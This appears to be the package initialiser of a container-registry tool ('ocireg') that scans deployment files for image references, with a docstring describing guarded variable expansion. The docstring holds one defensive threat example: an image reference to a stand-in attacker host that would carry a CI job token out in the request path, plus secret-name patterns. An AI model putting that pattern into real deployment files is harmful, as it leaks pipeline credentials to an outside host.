"""Find image references in the files a deployment is made of (pure: no network, no environment of its own).

One module per kind, each with the same ``find(doc)`` (and, for YAML, ``claims(doc)``):

* :mod:`.compose` — docker-compose and swarm stack files;
* :mod:`.kubernetes` — any document with ``apiVersion`` and ``kind`` (pod templates anywhere in it);
* :mod:`.kustomize` — ``kustomization.yaml`` ``images:``;
* :mod:`.gitlab_ci` — ``.gitlab-ci.yml`` ``image`` and ``services``;
* :mod:`.dockerfile` — ``FROM`` and ``COPY --from``;
* :mod:`.helm` — values files (``image.repository`` + ``tag``/``digest``), the fallback for other YAML.

:mod:`.core` holds what they share (positions, the YAML node helpers, the per-document walk that records the
span ``pin`` may rewrite); :mod:`.variables` the guarded variable expansion; :mod:`.scan` the file discovery and
the dispatch to a kind.

Variables (``$VAR``, ``${VAR}``, ``${VAR:-default}`` ...) are expanded from a lookup the caller passes in (the
CLI passes its environment; compose files also see their ``.env``; GitLab CI files their ``variables:``;
Dockerfiles their global ``ARG`` defaults). A reference that stays unresolved is reported as skipped with the
reason, never guessed.

A deploy file may come from a merge request, so expansion is guarded by a :class:`VariablePolicy`: a variable
whose name marks a secret (``*TOKEN*``, ``*PASSWORD*`` ...) or whose value is (or contains) a credential ocireg
holds is never expanded, unless the user allows it by name; such a reference is skipped with the reason and
nothing is sent. Otherwise ``image: attacker.example:5000/x:${CI_JOB_TOKEN}`` would send the job token to that
host in the request path (and print it). The rule is in SECURITY.md, section 14.
"""

from ocireg.operations.files.model import (
    KINDS,
    MAX_FILE_SIZE,
    FileProblem,
    Finding,
    Scan,
    Target,
    VariablePolicy,
    names_secret,
)
from ocireg.operations.files.scan import discover, file_kind, find_in_text, read_text, scan_paths
from ocireg.operations.files.variables import Expansion, expand_variables

__all__ = [
    "KINDS",
    "MAX_FILE_SIZE",
    "Expansion",
    "FileProblem",
    "Finding",
    "Scan",
    "Target",
    "VariablePolicy",
    "discover",
    "expand_variables",
    "file_kind",
    "find_in_text",
    "names_secret",
    "read_text",
    "scan_paths",
]
